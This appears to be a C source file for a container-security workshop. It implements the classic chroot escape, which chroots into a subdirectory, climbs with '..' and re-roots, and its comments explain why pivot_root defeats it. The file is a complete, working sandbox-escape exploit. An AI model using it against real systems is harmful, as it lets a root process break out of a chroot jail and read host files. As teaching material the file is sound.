/*
 * breakout — the classic chroot escape, shipped in the workshop's rootfs as
 * /usr/local/bin/breakout for lesson 03.
 *
 *   usage: breakout FILE
 *
 * Tries to leave the current root directory and print FILE as seen from the
 * real root of the mount namespace. Exit status 0 and the file's contents:
 * escaped. Exit status 1: still jailed.
 *
 * Why it works against chroot(2) alone: chroot changes only where path lookup
 * starts for "/", and ".." stops only at that exact directory. A root process
 * (CAP_SYS_CHROOT) can chroot again into a subdirectory *without* entering it:
 * its working directory is now outside its root, so ".." never meets the root
 * on the way up and climbs to the top of the mount tree, where chroot(".")
 * makes that the root again.
 *
 * Why it fails after pivot_root(2) + umount2(old root, MNT_DETACH): the top of
 * the mount tree *is* the container's rootfs, and the host's tree is no longer
 * attached anywhere in the namespace. There is nothing above to climb to.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 2) {
    fprintf(stderr, "usage: breakout FILE\n");
    return 2;
  }
  const char *target = argv[1];

  /* 1. Stand at the jail's root, then chroot into a subdirectory of it
   *    without entering it: the working directory is now above the root. */
  if (chdir("/") != 0 || chroot("/tmp") != 0) {
    fprintf(stderr, "breakout: chroot(\"/tmp\"): %s\n", strerror(errno));
    return 1;
  }
  /* 2. Climb. ".." stops at the root only if it passes through it, and ours
   *    is below us now. At the top of the mount tree ".." is "." again. */
  for (int i = 0; i < 256; i++) {
    if (chdir("..") != 0) break;
  }
  /* 3. Make wherever we arrived the root. */
  if (chroot(".") != 0) {
    fprintf(stderr, "breakout: chroot(\".\"): %s\n", strerror(errno));
    return 1;
  }

  int fd = open(target, O_RDONLY);
  if (fd < 0) {
    fprintf(stderr, "breakout: still jailed: %s: %s\n", target, strerror(errno));
    return 1;
  }
  char buf[4096];
  ssize_t n;
  while ((n = read(fd, buf, sizeof buf)) > 0) {
    if (write(1, buf, (size_t)n) != n) return 1;
  }
  close(fd);
  return 0;
}
